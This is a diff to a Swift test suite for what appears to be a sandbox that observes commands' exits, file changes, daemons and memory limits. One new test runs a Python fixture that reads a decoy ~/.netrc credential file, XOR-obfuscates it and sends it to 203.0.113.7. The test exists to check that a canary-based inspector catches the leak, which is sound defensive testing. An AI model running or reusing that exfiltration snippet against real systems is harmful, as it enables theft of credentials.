@@ -21,9 +21,11 @@ struct BoxTests {
     #expect(result.warnings.isEmpty)
   }
 
-  @Test("tells of the command's end as it was", arguments: [
-    ("exit 7", BoxResult.Exit.exited(7)), ("kill -TERM $$", .signalled(15)), ("true", .exited(0)),
-  ])
+  @Test(
+    "tells of the command's end as it was",
+    arguments: [
+      ("exit 7", BoxResult.Exit.exited(7)), ("kill -TERM $$", .signalled(15)), ("true", .exited(0)),
+    ])
   func end(script: String, exit: BoxResult.Exit) throws {
     #expect(try TestBox.shell(script).run().exit == exit)
   }
@@ -116,7 +118,7 @@ struct BoxTests {
             signal.pause()
           n += 1
       except OSError: pass
-      print(n)
+      print(n, flush=True)
       os._exit(0)
       """
     ).run()
@@ -134,7 +136,8 @@ struct BoxTests {
     #expect(result.exit == .stopped(.processes) || result.exit != .stopped(.wallClock))
   }
 
-  @Test("knows who started whom, when both parents of a daemon are gone", .enabled(if: Machine.hasPython, Machine.noPython))
+  @Test(
+    "knows who started whom, when both parents of a daemon are gone", .enabled(if: Machine.hasPython, Machine.noPython))
   func daemon() throws {
     let box = TestBox.python(
       """
@@ -181,11 +184,74 @@ struct BoxTests {
     #expect(event.because == "/home/dev/site/sitecustomize.py")
   }
 
-  @Test("survives an event's journey through JSON")
-  func coding() throws {
-    let result = try TestBox.shell("cat a; mv a b; ln -s x y; exit 3").decoy("a").run()
-    #expect(result.touched == ["a"])
-    let changes = result.events.filter { if case .change = $0.action { true } else { false } }
-    #expect(changes.count == 2)
+  @Test("tells of what was renamed and linked")
+  func changes() throws {
+    let result = try TestBox.shell("mv a b; ln -s x y").decoy("a").run()
+    let changes = result.events.compactMap {
+      if case .change(_, let path, let destination) = $0.action { "\(path) \(destination ?? "")" } else { nil }
+    }
+    #expect(changes == ["/home/dev/a /home/dev/b", "x /home/dev/y"])
+    #expect(result.events.contains { $0.action == .touch(decoy: "a", how: .moved) })
+  }
+
+  @Test(
+    "lets an inspector see files before they go, and memory before it is sent",
+    .enabled(if: Machine.hasPython, Machine.noPython))
+  func inspector() throws {
+    let box = TestBox.python(
+      """
+      import os, socket
+      data = open("/home/dev/.netrc").read()
+      with open("/tmp/archive", "w") as file: file.write("packed " + data)
+      os.unlink("/tmp/archive")
+      sealed = bytes(ord(c) ^ 0x55 for c in data)
+      socket.create_connection(("203.0.113.7", 443)).sendall(sealed)
+      """
+    ).decoy(".netrc", "a-secret-of-this-run")
+    let result = try Box.run(box.plan, network: box.network, inspector: Finder(canary: "a-secret-of-this-run"))
+    #expect(result.errorText == "")
+    let details = result.evidence.filter { $0.level == .staged }.map(\.detail)
+    #expect(details == ["/tmp/archive", "memory"])
+    #expect(result.created.files.isEmpty)
+  }
+
+  /// Looks for one text in changed files, and in memory when something is sent.
+  private struct Finder: BoxInspector {
+    let canary: String
+
+    func inspect(_ scene: BoxScene) -> [ObservedEvidence] {
+      var found = scene.changedFiles().filter { has(scene.contents(of: $0, limit: 1 << 20) ?? []) }.map(\.path)
+      if scene.moment == .connect {
+        var isInMemory = false
+        scene.writtenMemory(limit: 256 << 20) { isInMemory = isInMemory || has($0) }
+        if isInMemory { found.append("memory") }
+      }
+      return found.map { ObservedEvidence(level: .staged, event: nil, detail: $0) }
+    }
+
+    private func has(_ piece: UnsafeRawBufferPointer) -> Bool {
+      let text = Array(canary.utf8)
+      var rest = piece
+      while rest.count >= text.count, let start = rest.baseAddress, let hit = memchr(start, Int32(text[0]), rest.count) {
+        rest = UnsafeRawBufferPointer(rebasing: rest[(hit - UnsafeMutableRawPointer(mutating: start))...])
+        if rest.count >= text.count, memcmp(hit, text, text.count) == 0 { return true }
+        rest = UnsafeRawBufferPointer(rebasing: rest[1...])
+      }
+      return false
+    }
+
+    private func has(_ bytes: [UInt8]) -> Bool { String(decoding: bytes, as: UTF8.self).contains(canary) }
+  }
+
+  @Test(
+    "bounds the memory of all together where control groups are to be had",
+    .enabled(if: Machine.isRoot, Machine.noRoot), .enabled(if: Machine.hasPython, Machine.noPython),
+    .enabled(
+      if: access("/sys/fs/cgroup/memory", W_OK) == 0 || access("/sys/fs/cgroup/cgroup.subtree_control", W_OK) == 0,
+      "needs control groups"))
+  func memory() throws {
+    var box = TestBox.python("x = bytearray(256 << 20); print(len(x))")
+    box.plan.limits.totalMemory = 64 << 20
+    #expect(try box.run().exit == .signalled(Int(SIGKILL)))
   }
 }
